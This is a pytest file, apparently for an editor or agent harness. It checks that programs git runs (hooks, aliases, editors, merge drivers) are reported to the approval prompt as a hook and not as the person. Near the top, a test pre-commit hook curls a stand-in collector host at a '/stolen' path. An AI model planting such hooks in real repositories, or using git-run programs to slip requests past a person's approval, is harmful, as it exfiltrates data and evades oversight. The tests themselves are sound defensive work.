"""Programs that git runs for a repository, such as a hook that an agent wrote, ask in their own name."""

from __future__ import annotations

import pytest
from selenium.webdriver.common.keys import Keys

from gemini_testing import Surface
from tests.web.person import Person

HOOK = "#!/bin/sh\ncurl -s https://collector.example/stolen\ntrue\n"
SETUP = (
    "git config --global user.name Ada; git config --global user.email ada@example.org; cd {folder};"
    " git init -q -b main; echo one > notes; printf '{hook}' > .git/hooks/pre-commit;"
    " chmod +x .git/hooks/pre-commit; git add notes"
)

# Prints the caller that a question would name.
WHO = "from gemini import current_call\nprint(current_call().caller, file=open('/tmp/who', 'a'))\n"
REPOSITORY = """
export GIT_AUTHOR_NAME=Ada GIT_AUTHOR_EMAIL=ada@example.org GIT_COMMITTER_NAME=Ada GIT_COMMITTER_EMAIL=ada@example.org
rm -f /tmp/who; cd {folder}; git init -q -b main; who="python3 $PWD/../who.py"; echo '*.x merge=own' > .gitattributes
echo one > a.x; git add .; git commit -qm one; git branch side; echo two > a.x; git commit -qam two
git switch -q side; echo three > a.x; git commit -qam three; git switch -q main
hook() {{ printf '#!/bin/sh\n%s\n' "$2" > .git/hooks/$1; chmod +x .git/hooks/$1; }}
"""
# By the setting that names a program, what makes git run it.
PROGRAMS = {
    "hook": 'hook pre-commit "$who"; git commit -q --allow-empty -m x',
    "hook in the background": 'hook post-checkout "$who &"; git switch -q side; until test -s /tmp/who; do :; done',
    "core.hooksPath": 'git config core.hooksPath h; mkdir h; hook x "$who"; mv .git/hooks/x h/post-commit;'
    " git commit -q --allow-empty -m x",
    "alias": 'git config alias.who "!$who"; git who',
    "core.editor": 'git config core.editor "$who; true"; git commit -q --allow-empty',
    "sequence.editor": 'git config sequence.editor "$who; true"; git rebase -q -i HEAD~1',
    "merge driver": 'git config merge.own.driver "$who"; git merge -q side',
    "rebase --exec": 'git rebase -q --exec "$who" HEAD~1',
    "bisect run": 'git bisect start; git bisect bad; git bisect good HEAD~1; git bisect run sh -c "$who"',
    "hook of an alias": 'git config alias.c "!git commit -q --allow-empty -m x"; hook post-commit "$who"; git c',
}


@pytest.mark.extended
def test_each_program_of_a_repository_is_named_as_such(surface: Surface, folder: str, terminal: str) -> None:
    place = f"{folder}/r"
    surface.call("file_write", path=f"{folder}/who.py", content=WHO)
    for name, line in PROGRAMS.items():
        script = (
            f"mkdir -p {place}; {REPOSITORY.format(folder=place)}{{ {line}; }} >/dev/null 2>&1; cat /tmp/who"
        )
        done = surface.call("terminal_execute", terminal_id=terminal, command=script)
        surface.call("terminal_execute", terminal_id=terminal, command=f"cd /; rm -rf {place}")
        assert set(done["output"].split()) == {"hook"}, (name, done)
    # The terminal's own programs are still its caller's.
    script = f"python3 {folder}/who.py; tail -n 1 /tmp/who"
    ended = surface.call("terminal_execute", terminal_id=terminal, command=script)
    assert "hook" not in ended["output"]


@pytest.mark.extended
def test_the_request_of_a_hook_is_not_the_person_s(
    surface: Surface, person: Person, folder: str, terminal: str
) -> None:
    command = SETUP.format(folder=folder, hook=HOOK.replace("\n", "\\n"))
    surface.call("terminal_execute", terminal_id=terminal, command=command)
    person.open_panel("source-control")
    person.click("#source-control-message")
    person.type("First notes")
    person.press(Keys.ENTER, holding=Keys.CONTROL)

    person.sees("#approval-question", "https://collector.example/stolen")
    assert person.sees("#approval-who") == "A program that git runs for a repository, such as a hook"
    assert person.sees("#approval-tool") == "git"
    person.click("#approval-refuse")
    person.no_longer_sees("#approval")
    person.sees("#source-control-body", "No changes.")
    surface.call(
        "terminal_execute", terminal_id=terminal, command=f"cd /project; rm -rf {folder} ~/.gitconfig"
    )
